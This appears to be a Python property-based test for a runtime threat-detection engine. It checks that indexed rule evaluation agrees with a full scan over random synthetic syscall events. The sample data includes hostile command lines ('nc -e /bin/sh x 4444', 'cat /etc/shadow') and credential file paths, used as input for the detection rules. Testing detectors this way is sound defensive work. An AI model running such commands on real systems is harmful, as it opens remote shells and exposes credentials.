"""The event-type index never changes what fires: indexed == every rule, every event."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from falconer.engine import MappingEvent
from falconer.engine.ruleset import Ruleset

_TYPES = ["execve", "execveat", "openat", "open", "openat2", "connect", "accept", "listen",
          "socket", "sendto", "ptrace", "init_module", "finit_module", "unlinkat", "rename",
          "mkdir", "chmod", "setuid", "setns", "unshare", "bpf", "userfaultfd", "dup2",
          "read", "close", "mmap", "symlinkat", "linkat", "memfd_create"]
_NAMES = ["bash", "sh", "cat", "nginx", "python3", "sshd", "kubectl", "nc", "vi", "mount",
          "runc", "docker", "node", "sudo", "passwd"]
_PATHS = ["/etc/shadow", "/etc/passwd", "/root/.ssh/authorized_keys", "/dev/shm/x", "/tmp/a",
          "/proc/self/mem", "/var/run/docker.sock", "/usr/bin/ls", "/etc/sudoers",
          "/bin/bash", "10.0.0.1:40000->10.0.0.2:4444"]


_EVENTS = st.fixed_dictionaries({
    "evt.type": st.sampled_from(_TYPES),
    "proc.name": st.sampled_from(_NAMES),
    "proc.pname": st.sampled_from(_NAMES),
    "proc.exepath": st.sampled_from(_PATHS),
    "fd.name": st.sampled_from(_PATHS),
    "fd.directory": st.sampled_from(["/etc", "/root/.ssh", "/dev/shm", "/tmp", "/usr/bin"]),
    "fd.typechar": st.sampled_from(["f", "4", "6", "u"]),
    "fd.num": st.integers(-1, 9),
    "evt.is_open_read": st.booleans(),
    "evt.is_open_write": st.booleans(),
    "evt.res": st.sampled_from(["SUCCESS", "ENOENT", "EPERM"]),
    "evt.rawres": st.integers(-2, 3),
    "container.id": st.sampled_from(["host", "abc123"]),
    "proc.tty": st.sampled_from([0, 34816]),
    "user.uid": st.sampled_from([0, 1000]),
    "proc.cmdline": st.sampled_from(["bash -i", "cat /etc/shadow", "nc -e /bin/sh x 4444"]),
    "proc.aname": st.lists(st.sampled_from(_NAMES), max_size=4),
}).map(MappingEvent)


@given(st.lists(_EVENTS, min_size=1, max_size=20))
@settings(max_examples=150, deadline=None)
def test_index_agrees_with_full_scan(upstream_ruleset: Ruleset,
                                     events: list[MappingEvent]) -> None:
    for event in events:
        indexed = [a.rule for a in upstream_ruleset.evaluate(event)]
        full = [a.rule for a in upstream_ruleset.evaluate_unindexed(event)]
        assert indexed == full, event.fields
    assert upstream_ruleset.errors == 0
